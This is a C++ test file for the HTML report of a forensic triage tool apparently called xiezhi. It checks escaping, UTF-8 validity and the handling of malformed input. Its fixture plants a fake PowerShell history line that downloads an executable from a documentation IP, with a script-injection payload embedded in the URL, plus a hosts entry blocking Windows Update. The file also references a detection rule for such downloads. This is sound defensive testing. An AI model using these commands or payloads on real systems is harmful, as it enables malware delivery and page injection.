// The HTML report: `triage -f html` and the verb report.
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "tests/cli/run_support.h"
#include "tests/support/page_rows.h"
#include "tests/support/temp_folder.h"

namespace xiezhi::testing {
namespace {

std::string text_of(const std::string& path) {
    const std::u8string name(path.begin(), path.end());
    std::ifstream in(std::filesystem::path(name), std::ios::binary);
    std::ostringstream out;
    out << in.rdbuf();
    return out.str();
}

/// A host whose evidence is written to break out of a page.
void write_host(const TempFolder& folder) {
    folder.write("in/C/Windows/System32/drivers/etc/hosts", "0.0.0.0 update.microsoft.com\n");
    folder.write(
        "in/C/Users/eve/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/"
        "ConsoleHost_history.txt",
        "Invoke-WebRequest http://198.51.100.7/</script><script>alert(1)</script> -OutFile "
        "C:\\ProgramData\\x.exe # \xff\xfe \xe2\x80\xa8 <!-- & \n");
}

std::size_t count_of(const std::string& text, std::string_view part) {
    std::size_t count = 0;
    for (std::size_t at = text.find(part); at != std::string::npos; at = text.find(part, at + 1))
        ++count;
    return count;
}

TEST(Report, OfTriageIsOneFileThatNothingBreaks) {
    const TempFolder folder;
    write_host(folder);
    const std::string out = folder.path("report.html");
    const RunResult run = run_xiezhi({"triage", folder.path("in"), "-f", "html", "-o", out});
    EXPECT_EQ(run.code, 1) << run.err;
    EXPECT_EQ(run.out, "");
    EXPECT_NE(run.err.find(out), std::string::npos) << run.err;
    const std::string page = text_of(out);
    EXPECT_TRUE(page.starts_with("<!doctype html>"));
    EXPECT_TRUE(page.ends_with("</html>\n"));
    EXPECT_EQ(count_of(page, "<script"), 2U);
    EXPECT_EQ(count_of(page, "</script"), 2U);
    EXPECT_EQ(count_of(page, "<!--"), 0U);
    EXPECT_EQ(count_of(page, "\xff"), 0U) << "valid UTF-8";
    const std::string rows = rows_of_page(page);
    EXPECT_NE(rows.find("</script>"), std::string::npos) << "the text itself is there";
    EXPECT_NE(rows.find("\"record\":\"verdict\""), std::string::npos);
    EXPECT_NE(rows.find("\"record\":\"ledger\""), std::string::npos);
    EXPECT_NE(rows.find("\"dataset\":\"powershell_line\""), std::string::npos) << "documents";
}

TEST(Report, OfRowsIsTheSamePage) {
    const TempFolder folder;
    write_host(folder);
    const std::string rows = folder.path("rows.ndjson");
    const RunResult written =
        run_xiezhi({"triage", folder.path("in"), "-f", "ndjson", "--documents", "-q", "-o", rows});
    EXPECT_EQ(written.code, 1) << written.err;
    const RunResult direct =
        run_xiezhi({"triage", folder.path("in"), "-f", "html", "-q", "-o", folder.path("a.html")});
    EXPECT_EQ(direct.code, 1);
    const RunResult run = run_xiezhi({"report", rows, "-o", folder.path("b.html")});
    EXPECT_EQ(run.code, 0) << run.err;
    EXPECT_EQ(text_of(folder.path("a.html")), text_of(folder.path("b.html")));
}

TEST(Report, RowsSayTheirStoryAndTheRulesTheirReasons) {
    const TempFolder folder;
    write_host(folder);
    const RunResult run = run_xiezhi({"triage", folder.path("in"), "-f", "ndjson", "-q"});
    EXPECT_NE(run.out.find("\"story\":1,"), std::string::npos) << run.out;
    EXPECT_NE(run.out.find("\"record\":\"rule\""), std::string::npos);
    EXPECT_NE(run.out.find("\"next\":[{\"en\":"), std::string::npos);
    EXPECT_NE(run.out.find("\"why_zh\":"), std::string::npos) << "of capabilities";
}

TEST(Report, WhatIsNotOursIsSaid) {
    const TempFolder folder;
    const std::string good = folder.write("good.ndjson", "{\"xiezhi\":{\"record\":\"story\"}}\n");
    struct Case {
        std::string text;
        std::string_view said;
    };
    for (const auto& [text, said] : std::vector<Case>{
             {"", "the file is empty"},
             {"Security.evtx\n", "line 1 is no JSON object"},
             {"{\"a\":1}\n", "line 1 is JSON, but not from xiezhi"},
             {"{\"xiezhi\":{}}\n{\"xiezhi\":{\"lev", "the last line, 2, is cut off"},
         }) {
        const std::string bad = folder.write("bad.ndjson", text);
        const std::string out = folder.path("out.html");
        const RunResult run = run_xiezhi({"report", good, bad, "-o", out});
        EXPECT_EQ(run.code, 4) << text;
        EXPECT_NE(run.err.find("bad.ndjson"), std::string::npos) << run.err;
        EXPECT_NE(run.err.find(said), std::string::npos) << run.err;
        EXPECT_EQ(text_of(out), "") << "no half page stays";
    }
    const RunResult none = run_xiezhi({"report", folder.path("nowhere.ndjson")});
    EXPECT_EQ(none.code, 4);
    EXPECT_EQ(none.out, "");
    EXPECT_NE(none.err.find("nowhere.ndjson"), std::string::npos);
}

TEST(Report, CommandLine) {
    const RunResult nothing = run_xiezhi({"report"});
    EXPECT_EQ(nothing.code, 2);
    EXPECT_NE(nothing.err.find("-f ndjson --documents"), std::string::npos) << nothing.err;
    const RunResult help = run_xiezhi({"report", "--help"});
    EXPECT_EQ(help.code, 0);
    EXPECT_NE(help.out.find("--output"), std::string::npos);
    EXPECT_NE(help.out.find("FINDINGS.ndjson"), std::string::npos) << help.out;
    const RunResult chinese = run_xiezhi({"report", "--help", "--lang", "zh"});
    EXPECT_NE(chinese.out.find("生成 HTML 报告"), std::string::npos) << chinese.out;
    const RunResult welcome = run_xiezhi({"--help"});
    EXPECT_NE(welcome.out.find("report "), std::string::npos);
    const RunResult coverage = run_xiezhi({"coverage", "x", "-f", "html"});
    EXPECT_EQ(coverage.code, 2) << "the ledger alone is no report";
}

TEST(Report, GivesFindingsOfHuntTheReasonsOfOurRules) {
    const TempFolder folder;
    const std::string id =  // pack: PowerShell script fetches from a bare address or a paste host
        "f2f39b96-e0b3-47ef-b01c-710d16edd15a";
    const std::string rows =
        folder.write("hunt.ndjson", "{\"event\":{\"kind\":\"alert\"},\"rule\":{\"id\":\"" + id +
                                        "\",\"name\":\"x\"},\"xiezhi\":{\"level\":\"high\"}}\n");
    const RunResult run = run_xiezhi({"report", rows});
    EXPECT_EQ(run.code, 0) << run.err;
    const std::string shown = rows_of_page(run.out);
    EXPECT_NE(shown.find("\"record\":\"rule\",\"rule\":\"" + id), std::string::npos);
    EXPECT_NE(shown.find("\"next\":["), std::string::npos);
}

TEST(Report, BeginsInChineseWhenAsked) {
    const TempFolder folder;
    const std::string rows = folder.write("r.ndjson", "{\"xiezhi\":{\"record\":\"story\"}}\n");
    const RunResult run = run_xiezhi({"report", rows, "--lang", "zh"});
    EXPECT_EQ(run.code, 0) << run.err;
    EXPECT_NE(rows_of_page(run.out).find("\"lang\":\"zh\""), std::string::npos);
}

}  // namespace
}  // namespace xiezhi::testing
